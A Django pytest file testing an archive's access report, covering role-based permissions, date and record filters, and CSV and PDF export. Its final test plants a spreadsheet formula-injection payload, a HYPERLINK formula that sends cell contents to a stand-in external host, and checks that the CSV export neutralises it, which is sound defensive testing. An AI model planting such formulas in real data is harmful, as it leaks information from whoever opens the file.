"""The access report: who saw which softcopy, when and why; for the PPID and the Atasan PPID."""

import csv
import datetime
import io

import pypdf
import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format

from arsip.models import AccessLog

REPORT = reverse("arsip:access-report")


@pytest.fixture
def logs(make_record, desk, pembina):
    first, second = make_record("archived"), make_record("archived")
    long_ago = timezone.now() - datetime.timedelta(days=40)
    for record, user, reason, at in [
        (first, desk, "Arsip ulang", long_ago),
        (second, pembina, "Rapat pleno", timezone.now()),
    ]:
        AccessLog.objects.create(
            version=record.softcopies.get().versions.get(),
            user=user,
            reason=reason,
            sha256="a" * 64,
            ip="10.0.0.1",
            at=at,
        )
    return first, second


@pytest.mark.parametrize("username", ["ppid", "atasan"])
def test_the_ppid_and_the_atasan_see_who_accessed_what_and_why(client, cast, logs, username):
    client.force_login(cast[username])
    page = client.get(REPORT).content.decode()
    assert "Arsip ulang" in page and "Rapat pleno" in page


@pytest.mark.parametrize("username", ["desk", "pembina", "pertimbangan", "admin"])
def test_others_cannot_read_the_access_report(client, cast, logs, username):
    client.force_login(cast[username])
    assert client.get(REPORT).status_code == 403


def test_the_report_filters_by_record_and_by_date(client, ppid, logs):
    first, second = logs
    client.force_login(ppid)
    page = client.get(REPORT, {"record": second.pk}).content.decode()
    assert "Rapat pleno" in page and "Arsip ulang" not in page
    since = (timezone.localdate() - datetime.timedelta(days=7)).isoformat()
    page = client.get(REPORT, {"date_from": since}).content.decode()
    assert "Rapat pleno" in page and "Arsip ulang" not in page


def test_the_report_downloads_as_csv(client, ppid, logs):
    client.force_login(ppid)
    response = client.get(REPORT, {"record": logs[1].pk, "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["waktu", "pengguna", "entri", "berkas", "versi", "sha256", "alasan", "ip"]
    assert [r[1] for r in rows[1:]] == ["pembina"] and rows[1][6] == "Rapat pleno"
    assert {"private", "no-store"} <= set(response["Cache-Control"].split(", "))


def test_a_reversed_date_range_is_explained(client, ppid, logs):
    client.force_login(ppid)
    response = client.get(REPORT, {"date_from": "2026-02-01", "date_to": "2026-01-01"})
    assert response.context["form"].non_field_errors()


def test_the_report_downloads_as_a_pdf_with_the_full_hash_and_local_time(client, ppid, logs):
    first, second = logs
    log = AccessLog.objects.get(reason="Rapat pleno")
    client.force_login(ppid)
    response = client.get(REPORT, {"record": second.pk, "format": "pdf"})
    assert response["Content-Type"] == "application/pdf"
    assert "no-store" in response["Cache-Control"]
    reader = pypdf.PdfReader(io.BytesIO(response.content))
    text = "".join("".join(page.extract_text() for page in reader.pages).split())
    assert "Rapatpleno" in text and "Arsipulang" not in text
    assert "a" * 64 in text and f"Entrinomor{second.pk}" in text
    local = timezone.localtime(log.at)
    assert f"{local:%H.%M}" in text and date_format(local, "jFY").replace(" ", "") in text
    assert f"Halaman1dari{len(reader.pages)}" in text


def test_an_access_report_too_long_for_one_pdf_points_to_a_shorter_period(
    client, ppid, logs, settings
):
    settings.PPID_PDF_MAX_ROWS = 1
    client.force_login(ppid)
    response = client.get(REPORT, {"format": "pdf"}, follow=True)
    page = response.content.decode()
    assert "Dokumen ini akan memuat 2 baris" in page and "unduh CSV-nya" in page
    assert "Rapat pleno" in page  # back on the report page, the filters kept


def test_others_cannot_download_the_access_report_pdf(client, desk, logs):
    client.force_login(desk)
    assert client.get(REPORT, {"format": "pdf"}).status_code == 403


def test_a_reason_that_would_start_a_formula_is_neutralised_in_the_csv(client, ppid, logs):
    formula = '=HYPERLINK("http://contoh.example/?d="&A1,"Buka")'
    AccessLog.objects.create(
        version=logs[1].softcopies.get().versions.get(),
        user=ppid,
        reason=formula,
        sha256="b" * 64,
        ip="10.0.0.2",
    )
    client.force_login(ppid)
    response = client.get(REPORT, {"record": logs[1].pk, "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(r[6] for r in rows[1:]) == ["'" + formula, "Rapat pleno"]
